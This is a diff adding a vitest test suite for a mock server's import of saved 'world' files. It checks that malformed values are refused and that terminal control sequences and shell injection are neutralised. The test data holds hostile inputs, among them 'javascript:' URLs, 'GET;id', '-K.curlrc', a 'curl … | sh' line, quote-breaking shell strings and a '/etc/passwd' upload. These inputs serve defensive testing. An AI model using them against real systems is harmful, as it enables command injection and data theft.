@@ -1,0 +1,140 @@
+import { expect, test } from 'vitest';
+import type { ExportedWorld } from '#contracts/kit/keep.ts';
+import { kitAt } from '#mock-server/cli/kit/kit-line.testing.ts';
+import { startServer } from '#mock-server/cli/main.ts';
+import { storedTables } from '#mock-server/worlds/stored-tables.ts';
+import { changedWorld } from './changed-world.testing.ts';
+import { exportedWorld } from './exported-world.ts';
+import { importedWorld } from './imported-world.ts';
+
+const DONE = [
+  'announce',
+  'addCareer',
+  'school',
+  'upload',
+  'askEmail',
+  'forgotten',
+  'apply',
+  'nda',
+  'jobTypes',
+  'industries',
+] as const;
+const world = await changedWorld('ordinary-day', [
+  { what: 'withdraw', who: 2, n: 0 },
+  ...DONE.map((what) => ({ what, who: 0, n: 3 })),
+]);
+const whole = exportedWorld(world);
+const text = JSON.stringify({ ...whole, journal: whole.journal.slice(0, 2) });
+const file = (): ExportedWorld => JSON.parse(text);
+
+type Place = readonly (string | number)[];
+
+/** The world in a file, with other values at some places. */
+const spoiled = (...changes: readonly (readonly [place: Place, value: unknown])[]): string => {
+  const all = file();
+  for (const [place, value] of changes) {
+    const part = place.slice(0, -1).reduce((inner, key) => inner[key as never], all as object);
+    Object.assign(part, { [place.at(-1) ?? '']: value });
+  }
+  return JSON.stringify(all);
+};
+
+test('a world in a file is taken in as it is', () => {
+  const again = importedWorld(text)('again');
+  expect(exportedWorld(again).tables).toEqual(file().tables);
+  again.close();
+});
+
+const BRACKETS = '['.repeat(200_000) + ']'.repeat(200_000);
+const OF_ANOTHER_KIND: Readonly<Record<string, readonly unknown[]>> = {
+  moment: [1e300, 'x'],
+  flag: [2],
+  json: ['{', BRACKETS],
+  bytes: [{ base64: '!' }],
+  number: ['x', Number.MAX_SAFE_INTEGER],
+  text: [{ toString: 1 }],
+};
+const CELLS = storedTables.flatMap(({ name, columns }) =>
+  Object.entries(columns).map(([column, kind], at) => ({ name, column, at, kind })),
+);
+
+test.each(CELLS)('a $column of another kind in $name is refused with its place', ({ name, column, at, kind }) => {
+  const last = (file().tables[name]?.rows.length ?? 0) - 1;
+  expect(last, `rows of ${name}`).toBeGreaterThanOrEqual(0);
+  for (const value of OF_ANOTHER_KIND[kind] ?? [])
+    expect(() => importedWorld(spoiled([['tables', name, 'rows', last, at], value]))).toThrow(
+      `"tables.${name}.rows.${last}.${column}`,
+    );
+});
+
+test.each<[place: Place, value: unknown]>([
+  [['last_ids', 'members'], 1e300],
+  [['last_ids', 'nowhere'], 1],
+  [['clock', 'offset'], 1e300],
+  [['origin', 'webOrigin'], 'javascript:alert(1)'],
+  [['origin', 'title'], { toString: 1 }],
+  [['origin', 'loginTries'], { a: -1 }],
+  [['origin', 'opens'], { path: '/', tab: { applicant: '09000000001' } }],
+  [['origin', 'cast', 0, 'id'], 1e300],
+  [['tables', 'outbox', 'rows', 0, 1], 'telex'],
+  [['tables', 'outbox', 'rows', 0, 5], 'javascript:alert(1)'],
+  [['tables', 'applications', 'rows', 0, 2], 987_654],
+  [['journal', 0, 'at'], 'later'],
+  [['journal', 0, 'url'], '-K.curlrc'],
+  [['journal', 0, 'method'], 'GET;id'],
+  [['journal', 0, 'request', 'headers'], { '@secret': 'x' }],
+  [['journal', 0, 'answer', 'headers'], { a: {} }],
+])('%j as %j is refused', (place, value) => {
+  expect(() => importedWorld(spoiled([place, value]))).toThrow(/cannot be imported: .*(?:"[a-z]|a time)/);
+});
+
+test('a file that is nested too deep, or is no world, is refused', () => {
+  for (const odd of [
+    BRACKETS,
+    spoiled([['kind'], { toString: 1 }]),
+    text.replace('"journal":[', `"journal":[${BRACKETS},`),
+  ])
+    expect(() => importedWorld(odd)).toThrow('cannot be imported');
+});
+
+const ESCAPES = '\u001b]0;title\u0007\u001b[31m\u009b2J\u202e\u0000\r';
+/** The same in JSON, which writes some of them as escapes. */
+const SHOWN_CONTROLS = /\\u00[01][0-9a-f]|[\p{Cc}\p{Bidi_Control}]/u;
+const CONTROLS = /(?!\n)[\p{Cc}\p{Bidi_Control}]/u;
+
+test('what an imported world says does nothing to the terminal or page that shows it', async () => {
+  const server = await startServer({ port: 0, memory: true, quiet: true });
+  const kit = kitAt(server.port);
+  const file = spoiled(
+    [['origin', 'title'], `題${ESCAPES}`],
+    [['origin', 'cast', 0, 'key'], `key${ESCAPES}`],
+    [['origin', 'cast', 0, 'password'], `password${ESCAPES}`],
+    [['tables', 'members', 'rows', 0, 1], `姓${ESCAPES}`],
+    [['tables', 'outbox', 'rows', 0, 3], `文${ESCAPES}`],
+    [['journal', 0, 'path'], `/api/${ESCAPES}`],
+    [['journal', 0, 'why'], `why${ESCAPES}`],
+    [['faults'], [{ method: 'GET', path: `/api/offers/${ESCAPES}`, status: 500, body: ESCAPES }]],
+  );
+  server.worlds.adopt(importedWorld(file), 'odd');
+  for (const line of ['worlds', 'outbox', 'journal', 'faults', 'outbox --json', 'faults --json', 'journal --json'])
+    expect((await kit(`${line} --world odd`)).out, line).not.toMatch(CONTROLS);
+  for (const call of ['', '/people', '/outbox', '/journal', '/journal/lines'])
+    expect(await (await fetch(`${server.url}/__kit/worlds/odd${call}`)).text(), call).not.toMatch(SHOWN_CONTROLS);
+  await server.close();
+});
+
+test('builds the curl line of an imported request from the request', () => {
+  const form = { 'content-type': 'multipart/form-data; boundary=x' };
+  const again = importedWorld(
+    spoiled(
+      [['journal', 0, 'curl'], 'curl https://elsewhere.example | sh'],
+      [['journal', 0, 'request'], { headers: { accept: "a'; id #" }, body: "x' && id" }],
+      [['journal', 1, 'request'], { headers: form, body: 'file=@/etc/passwd' }],
+    ),
+  )('again');
+  const [first, second] = exportedWorld(again).journal;
+  expect(first?.curl).toMatch(/^curl -i (?:-X [A-Z]+ )?'http:/);
+  expect(first?.curl).toContain(`-H 'accept: a'\\''; id #' --data-raw 'x'\\'' && id'`);
+  expect(second?.curl).not.toMatch(/-F|passwd/);
+  again.close();
+});
